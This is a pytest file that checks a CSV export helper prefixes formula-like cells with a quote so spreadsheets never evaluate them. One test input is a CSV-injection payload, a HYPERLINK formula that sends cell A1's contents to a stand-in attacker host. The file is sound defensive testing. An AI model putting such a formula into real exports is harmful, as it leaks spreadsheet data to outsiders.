"""CSV cells are neutralised so a spreadsheet never runs one as a formula."""

from decimal import Decimal

import pytest

from fraudops.csv_cells import csv_cell_safe, csv_row_safe


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"click")',
        "+SUM(1,2)",
        "@SUM(1,2)",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_starts_a_formula_gets_a_leading_quote(text):
    assert csv_cell_safe(text) == "'" + text


def test_plain_text_numbers_and_empty_cells_pass_unchanged():
    values: list[object] = ["c-42", "alice@example.com", "", Decimal("-5.00"), -1, 0.5, None]

    assert csv_row_safe(values) == values
